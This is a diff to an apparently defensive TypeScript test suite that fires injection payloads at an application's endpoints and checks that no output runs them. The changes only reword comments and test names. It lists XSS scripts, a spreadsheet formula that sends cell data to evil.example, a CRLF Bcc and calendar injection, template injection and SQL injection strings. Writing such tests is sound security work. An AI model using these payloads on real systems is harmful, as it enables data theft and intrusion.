@@ -1,7 +1,7 @@
 /**
- * Every text field of every endpoint is given code of some language; then everything is read by everybody who may read it, as
- * JSON, as tables, as a calendar and as mail. Nothing may have been executed, and nothing may be written so that a browser, a
- * spreadsheet, a mail or a calendar program would execute it.
+ * Gives every text field of every endpoint code in some language. Then every role reads everything it may, as JSON,
+ * tables, calendar and email. Nothing may have been executed, and nothing may be written so that a browser, a
+ * spreadsheet, an email or calendar program would execute it.
  */
 import * as fc from 'fast-check'
 import { afterAll, beforeAll, describe, expect, test } from 'vitest'
@@ -15,7 +15,7 @@ import { requestOf } from './requests.ts'
 import { rowsWith } from './rows-with.ts'
 import { aTarget, mark, type Target } from './target.ts'
 
-/** Stands in every payload. */
+/** Part of every payload. */
 const trace = 'Qx7'
 /** What becomes of a payload that was executed. */
 const done = /Qx7(executed|1337)/
@@ -29,7 +29,7 @@ const payloads = [
   ],
   ['HTML with a script', `${trace}"><script>alert(1)</script><iframe srcdoc="<script>alert(1)</script>">`],
   ['a formula', `=HYPERLINK("https://evil.example/?"&A1,"${trace}")`],
-  ['lines of a calendar or a mail', `${trace}\r\nBcc: spy@example.com\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nX-EXECUTED:1`],
+  ['lines of a calendar or an email', `${trace}\r\nBcc: spy@example.com\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nX-EXECUTED:1`],
   [
     'a template',
     ['{{constructor.constructor("return 7*191")()}}', '<%= 7*191 %>', '#{7*191}', '$\u007b7*191}']
@@ -53,7 +53,7 @@ type Place = readonly (string | number)[]
 /** Names of what has to exist already: no free text. */
 const references = ['topic']
 
-/** Where a text stands, or nothing where one could. */
+/** Where a text is, or null if there could be one. */
 function textPlaces(value: unknown, at: Place = []): Place[] {
   if (references.includes(String(at.at(-1)))) return []
   if (typeof value === 'string' || value === null) return [at]
@@ -82,7 +82,7 @@ function injected(endpoint: Endpoint, body: unknown, payload: string): { body: u
 
 const nameOf = ({ method, path }: Endpoint) => `${method} ${path}`
 
-/** One of those whom the table lets in. */
+/** One of the roles that the table lets in. */
 function welcomeAt(endpoint: Endpoint, target: Target): SignedInPerson | undefined {
   const people: Readonly<Record<string, SignedInPerson>> = { ...readers(target) }
   const statuses = expectations.get(nameOf(endpoint)) ?? []
@@ -198,7 +198,7 @@ describe.each(payloads)('%s', (_, payload) => {
     ]).toEqual([])
   })
 
-  test('is no tag and no header in a mail', async () => {
+  test('is no tag and no header in an email', async () => {
     const { rows } = await server.db.pool.query('select recipient, subject, text, html from public.outbox_messages')
     expect(rows.filter(({ text }) => text.includes(trace)).length).toBeGreaterThan(0)
     for (const { recipient, subject, html } of rows) {
@@ -216,7 +216,7 @@ describe.each(payloads)('%s', (_, payload) => {
   })
 })
 
-test('what is sought, sorted and filtered by is never SQL', { timeout: 120_000 }, async () => {
+test('search words, sort orders and filters are never SQL', { timeout: 120_000 }, async () => {
   const target = await aTarget(server)
   const code = fc.constantFrom(
     "' or 'a'='a",
